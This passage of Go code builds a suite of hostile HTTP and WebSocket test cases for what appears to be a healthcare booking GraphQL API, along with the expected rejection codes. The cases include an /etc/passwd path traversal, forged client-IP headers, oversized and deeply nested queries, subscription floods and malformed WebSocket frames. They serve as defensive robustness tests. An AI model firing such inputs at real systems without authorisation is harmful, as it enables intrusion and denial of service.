	add(httpCase{Name: "anonymous booking", Body: q(book, map[string]any{"input": map[string]any{"practitionerId": "{{PRACTITIONER}}", "appointmentTypeId": "{{TYPE}}", "startsAt": "{{START}}", "idempotencyKey": "anon"}}), Codes: []string{"UNAUTHENTICATED"}})
	add(httpCase{Name: "forged client address", Headers: map[string]string{"X-Forwarded-For": "127.0.0.1, 10.0.0.1", "X-Real-IP": "10.0.0.1", "True-Client-IP": "::1"}, Body: one, Status: []int{200}})

	// Methods and paths.
	for _, m := range []string{"PUT", "DELETE", "PATCH", "TRACE", "PROPFIND"} {
		add(httpCase{Name: "method " + m, Method: m, Body: one, Answered: true})
	}
	add(httpCase{Name: "HEAD", Method: "HEAD", Answered: true})
	add(httpCase{Name: "CORS preflight", Method: "OPTIONS", Headers: map[string]string{"Origin": "https://evil.invalid", "Access-Control-Request-Method": "POST"}, Answered: true})
	add(httpCase{Name: "GET without query", Method: "GET", Answered: true})
	add(httpCase{Name: "GET mutation", Method: "GET", Path: "/graphql?query=mutation%7BremoveAbsence(id%3A%22x%22)%7Bid%7D%7D", Status: []int{405}, Codes: []string{"BAD_REQUEST"}})
	add(httpCase{Name: "GET with garbage variables", Method: "GET", Path: "/graphql?query=%7B__typename%7D&variables=%7B%7B%7B", Answered: true})
	add(httpCase{Name: "GET 60 KB query string", Method: "GET", Path: "/graphql?query={{BRACES}}", Answered: true})
	add(httpCase{Name: "unknown path", Path: "/admin", Body: one, Status: []int{404}, Codes: []string{"NOT_FOUND"}})
	add(httpCase{Name: "path traversal", Path: "/graphql/../../etc/passwd", Body: one, Answered: true})
	add(httpCase{Name: "encoded NUL in path", Path: "/graphql%00.json", Body: one, Answered: true})
	add(httpCase{Name: "trailing slash", Path: "/graphql/", Body: one, Answered: true})
	add(httpCase{Name: "metrics path", Path: "/metrics", Method: "GET", Answered: true})
	add(httpCase{Name: "many headers", Headers: manyHeaders(100), Body: one, Answered: true})

	var wc []wsCase
	sub := `{"id":"{{N}}","type":"subscribe","payload":{"query":"subscription W($p: ID!, $t: ID!, $f: Date!, $to: Date!) { slotsChanged(practitionerId: $p, appointmentTypeId: $t, from: $f, to: $to) { practitionerId } }","variables":{"p":"{{PRACTITIONER}}","t":"{{TYPE}}","f":"{{DAY}}","to":"{{DAY}}"}}}`
	initMsg := `{"type":"connection_init","payload":{}}`
	wc = append(wc,
		wsCase{Name: "subscribe before connection_init", Frames: []wsFrame{{Text: sub, Count: 1}}, Expect: "close"},
		wsCase{Name: "init flood", Frames: []wsFrame{{Text: initMsg, Count: 200}}, Expect: "close"},
		wsCase{Name: "3000 subscriptions on one socket", Frames: []wsFrame{{Text: initMsg}, {Text: sub, Count: 3000}}, Expect: "errors", Code: "TOO_MANY_SUBSCRIPTIONS"},
		wsCase{Name: "duplicate subscription id", Frames: []wsFrame{{Text: initMsg}, {Text: strings.ReplaceAll(sub, "{{N}}", "same")}, {Text: strings.ReplaceAll(sub, "{{N}}", "same")}}, Expect: "any"},
		wsCase{Name: "unknown message type", Frames: []wsFrame{{Text: initMsg}, {Text: `{"type":"gimme"}`}}, Expect: "close"},
		wsCase{Name: "not JSON", Frames: []wsFrame{{Text: initMsg}, {Text: `{{{`}}, Expect: "close"},
		wsCase{Name: "subscribe to a mutation", Frames: []wsFrame{{Text: initMsg}, {Text: `{"id":"1","type":"subscribe","payload":{"query":"mutation { registerPatient(input: {firstName: \"A\", lastName: \"B\", email: \"bad\", birthDate: \"1990-01-01\", country: \"fr\"}) { patient { id } } }"}}`}}, Expect: "open"},
		wsCase{Name: "subscribe with no payload", Frames: []wsFrame{{Text: initMsg}, {Text: `{"id":"1","type":"subscribe"}`}}, Expect: "open"},
		wsCase{Name: "subscribe with invalid query", Frames: []wsFrame{{Text: initMsg}, {Text: `{"id":"1","type":"subscribe","payload":{"query":"subscription { nope }"}}`}}, Expect: "open"},
		wsCase{Name: "deep subscription", Frames: []wsFrame{{Text: initMsg}, {Text: `{"id":"1","type":"subscribe","payload":{"query":"subscription { ` + strings.Repeat("a { ", 200) + "b" + strings.Repeat(" }", 200) + ` }"}}`}}, Expect: "open"},
		wsCase{Name: "garbage init token", Frames: []wsFrame{{Text: `{"type":"connection_init","payload":{"Authorization":"Bearer garbage"}}`}}, Expect: "close", CloseCodes: []int{4401}},
		wsCase{Name: "init token not a string", Frames: []wsFrame{{Text: `{"type":"connection_init","payload":{"Authorization":{"a":1}}}`}, {Text: sub, Count: 1}}, Expect: "open or closed", CloseCodes: []int{1000, 4400, 4401, 4403}},
		wsCase{Name: "message over 64 KiB", Frames: []wsFrame{{Text: initMsg}, {Text: `{"id":"1","type":"subscribe","payload":{"query":"{{PAD}}"}}`, PadBytes: 70_000}}, Expect: "close", CloseCodes: []int{1009}, ResetAllowed: true},
		wsCase{Name: "frame length of 2^62", Frames: []wsFrame{{Text: initMsg}, {RawBase64: b64([]byte{0x81, 0xff, 0x40, 0, 0, 0, 0, 0, 0, 0, 1, 2, 3, 4})}}, Expect: "close", CloseCodes: []int{1009}},
		wsCase{Name: "unmasked client frame", Frames: []wsFrame{{Text: initMsg}, {RawBase64: b64(append([]byte{0x81, 0x05}, "hello"...))}}, Expect: "close"},
		wsCase{Name: "reserved opcode", Frames: []wsFrame{{Text: initMsg}, {RawBase64: b64([]byte{0x83, 0x80, 1, 2, 3, 4})}}, Expect: "close"},
		wsCase{Name: "continuation without a start", Frames: []wsFrame{{Text: initMsg}, {RawBase64: b64([]byte{0x80, 0x80, 1, 2, 3, 4})}}, Expect: "close"},
		wsCase{Name: "fragmented ping", Frames: []wsFrame{{Text: initMsg}, {RawBase64: b64([]byte{0x09, 0x80, 1, 2, 3, 4})}}, Expect: "close"},
		wsCase{Name: "binary message", Frames: []wsFrame{{Text: initMsg}, {RawBase64: b64([]byte{0x82, 0x82, 1, 2, 3, 4, 0xfe, 0xff})}}, Expect: "any"},
		wsCase{Name: "invalid UTF-8 text", Frames: []wsFrame{{Text: initMsg}, {RawBase64: b64(masked(0x81, []byte("{\"type\":\"\xff\"}")))}}, Expect: "close"},
		wsCase{Name: "close with a reserved code", Frames: []wsFrame{{Text: initMsg}, {RawBase64: b64(masked(0x88, []byte{0x03, 0xed}))}}, Expect: "close"},
		wsCase{Name: "silent after the handshake", Expect: "close"}, // no connection_init: closed after its timeout
		wsCase{Name: "half-open mid-frame", Frames: []wsFrame{{Text: initMsg}, {RawBase64: b64([]byte{0x81, 0xfe, 0x10, 0x00, 1, 2, 3, 4, 'x'})}, {PauseMillis: 300}}, Expect: "any"},
		wsCase{Name: "upgrade with a bad token", Headers: map[string]string{"Authorization": "Bearer garbage"}, Expect: "refused", Status: []int{401}},
		wsCase{Name: "unknown subprotocol", Protocol: "chat", Frames: []wsFrame{{Text: initMsg}}, Expect: "close"},
	)

	write("http.jsonl", hc)
	write("ws.jsonl", wc)
	fmt.Printf("%d HTTP cases, %d WebSocket cases\n", len(hc), len(wc))
}

func manyHeaders(n int) map[string]string {
	h := map[string]string{}
	for i := range n {
		h[fmt.Sprintf("X-H%d", i)] = strings.Repeat("v", 100)
	}
	return h
}

func b64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

// masked is a client frame (fin, op) with payload under a fixed mask.
func masked(finOp byte, payload []byte) []byte {
	mask := []byte{9, 8, 7, 6}
	out := []byte{finOp, 0x80 | byte(len(payload))}
	out = append(out, mask...)
	for i, c := range payload {
		out = append(out, c^mask[i%4])
	}
	return out
}

func firstN(s string, n int) string {
	if s == "" {
		return "(empty)"
	}
	if len(s) > n {
		return s[:n] + "…"
	}
	return s
}

func write[T any](name string, cases []T) {
	f, err := os.Create(filepath.Join("e2e", "hostile", name))
	if err != nil {
		panic(err)
	}
	defer f.Close()
	enc := json.NewEncoder(f)
	enc.SetEscapeHTML(false)
	for _, c := range cases {
		if err := enc.Encode(c); err != nil {
			panic(err)
		}
	}
}
